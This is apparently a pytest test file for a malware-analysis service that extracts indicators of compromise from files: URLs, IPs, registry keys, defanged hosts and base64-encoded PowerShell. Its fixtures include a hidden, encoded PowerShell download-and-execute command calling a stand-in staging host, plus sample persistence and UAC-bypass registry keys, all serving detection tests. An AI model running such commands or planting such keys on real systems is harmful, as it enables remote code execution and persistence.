"""The Strings service and the shared IOC extractors, on hand-made texts and hostile bytes."""

from __future__ import annotations

import base64
import json
import random
from pathlib import Path

import pytest

from assay.services.base import FileRequest, Result
from assay.services.lib import indicators as ioc
from assay.services.strings import Strings, extract_strings, powershell_commands


def run_strings(tmp_path: Path, data: bytes, **params: object) -> Result:
    path = tmp_path / "sample.bin"
    path.write_bytes(data)
    request = FileRequest(path=path, sha256="0" * 64, name="sample.bin", size=len(data), params=params)
    return Strings().execute(request)


def tagged(result: Result, tag_type: str) -> set[str]:
    return {tag.value for tag in result.tags() if tag.type == tag_type}


MIXED_TEXT = r"""
Config dump: c2=http://update.badhost.example.com:8080/gate.php?id=7 backup 198.51.100.23
contact ops-team@corp.example.net, drop to C:\Users\Public\Libraries\svc host.exe now
persist HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run and
HKCU\Software\Classes\ms-settings\shell\open\command; log /var/tmp/.cache/agent.log
ipv6 peers 2001:db8:0:0:0:0:0:1 fe80::1ff:fe23:4567:890a and ::ffff:192.0.2.1
"""


def test_mixed_text_yields_every_indicator_kind(tmp_path: Path) -> None:
    result = run_strings(tmp_path, MIXED_TEXT.encode())
    assert "http://update.badhost.example.com:8080/gate.php?id=7" in tagged(result, ioc.TAG_URI)
    assert {"update.badhost.example.com", "corp.example.net"} <= tagged(result, ioc.TAG_DOMAIN)
    assert {"198.51.100.23", "2001:db8::1", "fe80::1ff:fe23:4567:890a", "::ffff:c000:201"} <= tagged(
        result, ioc.TAG_IP
    )
    assert tagged(result, ioc.TAG_EMAIL) == {"ops-team@corp.example.net"}
    keys = tagged(result, ioc.TAG_REGISTRY)
    assert r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run" in keys
    assert r"HKCU\Software\Classes\ms-settings\shell\open\command" in keys
    paths = tagged(result, ioc.TAG_PATH)
    assert r"C:\Users\Public\Libraries\svc" in paths  # the last component stops at a space
    assert "/var/tmp/.cache/agent.log" in paths
    for tag_type, values in result.data["indicators"].items():
        assert set(values) == tagged(result, tag_type)
    json.dumps(result.data)


def test_defanged_forms_are_refanged_before_tagging(tmp_path: Path) -> None:
    text = (
        "hxxps://evil[.]example(.)org/payload.bin and hxxp[:]//203.0.113[.]77/x "
        "mail admin[at]phish[.]example[.]com or bob (at) mail[.]example[.]com"
    )
    result = run_strings(tmp_path, text.encode())
    assert {"https://evil.example.org/payload.bin", "http://203.0.113.77/x"} <= tagged(result, ioc.TAG_URI)
    assert {"admin@phish.example.com", "bob@mail.example.com"} == tagged(result, ioc.TAG_EMAIL)
    assert "203.0.113.77" in tagged(result, ioc.TAG_IP)
    assert not any("[" in value or "hxxp" in value for tag in result.tags() for value in [tag.value])


def test_utf16le_strings_are_searched(tmp_path: Path) -> None:
    wide = "Download from http://cdn.example.info/a.exe to %APPDATA%\\Roaming\\a.exe".encode("utf-16-le")
    data = b"\x00\xff\x10" + wide + b"\x00\x00\xfe"
    result = run_strings(tmp_path, data)
    assert "http://cdn.example.info/a.exe" in tagged(result, ioc.TAG_URI)
    assert "%APPDATA%\\Roaming\\a.exe" in tagged(result, ioc.TAG_PATH)
    assert result.data["strings"]["utf16le"] >= 1


def test_extract_strings_finds_both_encodings_and_respects_min_length() -> None:
    data = b"abc\x00abcdefgh\x01" + "wideword".encode("utf-16-le") + b"\x00\x00" + "wid".encode("utf-16-le")
    found = extract_strings(data, min_length=6, max_strings=100)
    assert found.ascii == ["abcdefgh"]
    assert found.utf16 == ["wideword"]
    assert extract_strings(data, min_length=3, max_strings=100).ascii == ["abc", "abcdefgh"]


NOISE = [
    "version 1.2.3.4.5 of the tool",
    "release 10.0.0.256 build",
    "loads libc.so and libc.so.6 and libgettextlib-0.21.so",
    "run setup.py then read readme.md or archive.zip",
    "using System.Net and System.IO namespaces",
    "self.name = entry.data",
    "time 12:30:45 std::string Foo::Bar",
    "a.b and x.y.z.notatld",
]


@pytest.mark.parametrize("text", NOISE)
def test_version_numbers_file_names_and_code_are_not_hosts(text: str) -> None:
    found = ioc.extract_indicators(text)
    assert found.ips == []
    assert found.domains == []


def test_ambiguous_suffix_counts_in_a_url_an_email_or_a_longer_name() -> None:
    found = ioc.extract_indicators("get http://files.so/x mail me@tools.py visit cdn.example.so")
    assert {"files.so", "tools.py", "cdn.example.so"} <= set(found.domains)
    assert "http://files.so/x" in found.uris
    assert ioc.extract_indicators("write to Bob.Smith@Example.COM").emails == ["bob.smith@example.com"]


def test_invalid_hosts_in_urls_are_rejected() -> None:
    found = ioc.extract_indicators("fmt http://%s/%s and http://localhost/x and http://999.1.1.1/")
    assert found.uris == []


def test_url_paths_are_not_file_paths_and_unknown_roots_are_ignored() -> None:
    found = ioc.extract_indicators("see http://example.com/usr/bin/x and a/b/c and /foo/bar")
    assert found.paths == []


def test_safelist_exact_and_domain_suffix(tmp_path: Path) -> None:
    text = (
        "http://download.microsoft.com/x http://notmicrosoft.com/y 8.8.8.8 198.51.100.1 "
        "www.microsoft.com login.evil.example.net"
    )
    safelist = {
        ioc.TAG_DOMAIN: ["microsoft.com"],
        ioc.TAG_IP: ["8.8.8.8"],
    }
    result = run_strings(tmp_path, text.encode(), safelist=safelist)
    assert tagged(result, ioc.TAG_DOMAIN) == {"notmicrosoft.com", "login.evil.example.net"}
    assert tagged(result, ioc.TAG_URI) == {"http://notmicrosoft.com/y"}
    assert tagged(result, ioc.TAG_IP) == {"198.51.100.1"}
    assert "8.8.8.8" not in result.data["indicators"][ioc.TAG_IP]


def test_malformed_safelist_is_ignored(tmp_path: Path) -> None:
    result = run_strings(tmp_path, b"visit www.example.com today", safelist=["oops"])
    assert tagged(result, ioc.TAG_DOMAIN) == {"www.example.com"}


def test_many_ips_heuristic_depends_on_the_threshold(tmp_path: Path) -> None:
    ips = " ".join(f"198.51.100.{n}" for n in range(1, 13))
    assert "strings.many_ips" in run_strings(tmp_path, ips.encode()).heuristic_ids()
    assert "strings.many_ips" not in run_strings(tmp_path, ips.encode(), many_ips=50).heuristic_ids()


def test_url_with_raw_ip_host(tmp_path: Path) -> None:
    assert "strings.url_raw_ip" in run_strings(tmp_path, b"fetch http://203.0.113.5/stage2").heuristic_ids()
    assert "strings.url_raw_ip" in run_strings(tmp_path, b"fetch http://[2001:db8::5]:81/s").heuristic_ids()
    assert "strings.url_raw_ip" not in run_strings(tmp_path, b"fetch http://www.example.com/").heuristic_ids()


def test_encoded_powershell_is_decoded_and_its_indicators_tagged(tmp_path: Path) -> None:
    script = "IEX (New-Object Net.WebClient).DownloadString('http://stage.example.org/p.ps1')"
    payload = base64.b64encode(script.encode("utf-16-le")).decode()
    data = f"cmd /c powershell.exe -NoP -W Hidden -EncodedC {payload}".encode()
    result = run_strings(tmp_path, data)
    assert "strings.powershell_encoded" in result.heuristic_ids()
    assert "http://stage.example.org/p.ps1" in tagged(result, ioc.TAG_URI)
    assert powershell_commands(data.decode())[0]["decoded"] == script


def test_powershell_with_other_switch_or_junk_payload_is_not_flagged() -> None:
    assert powershell_commands("powershell -ExecutionPolicy Bypass -File x.ps1") == []
    assert powershell_commands("powershell -e !!!!notbase64!!!!!!!!!!") == []
    assert powershell_commands("powershell -exec QUJDREVGR0hJSktMTU5PUA==") == []


def test_encoded_switch_after_a_long_other_argument_is_found() -> None:
    payload = base64.b64encode("Write-Output 'hello'".encode("utf-16-le")).decode()
    line = f"powershell -ExecutionPolicy UnrestrictedPolicyValueXYZ -e {payload}"
    assert [c["decoded"] for c in powershell_commands(line)] == ["Write-Output 'hello'"]


def test_every_heuristic_used_is_declared() -> None:
    declared = {h.id for h in Strings.heuristics}
    assert all(h.startswith("strings.") for h in declared)
    assert len(declared) == len(Strings.heuristics)
    assert all(0 < h.score <= 300 for h in Strings.heuristics)


def test_random_binary_is_bounded_and_does_not_crash(tmp_path: Path) -> None:
    data = random.Random(1234).randbytes(3 << 20)
    result = run_strings(tmp_path, data)
    json.dumps(result.data)
    for values in result.data["indicators"].values():
        assert len(values) <= Strings.parameters["max_indicators"]
    bounded = run_strings(tmp_path, data, max_strings=5, max_bytes=1 << 20, max_indicators=1)
    assert {"string_limit_reached", "strings_input_truncated"} <= set(bounded.anomalies)
    assert bounded.data["strings"]["ascii"] <= 5


def test_indicator_limit_is_applied_and_flagged(tmp_path: Path) -> None:
    hosts = " ".join(f"host{n}.example.com" for n in range(30))
    result = run_strings(tmp_path, hosts.encode(), max_indicators=10)
    assert len(tagged(result, ioc.TAG_DOMAIN)) == 10
    assert "indicator_limit_reached" in result.anomalies


@pytest.mark.parametrize(
    "hostile",
    [
        "a." * 100_000,
        "C:\\" + "dir " * 50_000,
        "HKLM\\" + "k\\ " * 30_000,
        "1." * 100_000,
        "a:" * 100_000,
        "http://" + "a" * 100_000,
        "x@" * 100_000,
    ],
)
def test_pathological_strings_finish(tmp_path: Path, hostile: str) -> None:
    result = run_strings(tmp_path, hostile.encode())
    assert isinstance(result.data["indicators"], dict)


def test_empty_and_unreadable_inputs(tmp_path: Path) -> None:
    assert run_strings(tmp_path, b"").data["indicators"][ioc.TAG_IP] == []
    missing = FileRequest(path=tmp_path / "gone", sha256="0" * 64, name="gone", size=0)
    assert "file_unreadable" in Strings().execute(missing).anomalies
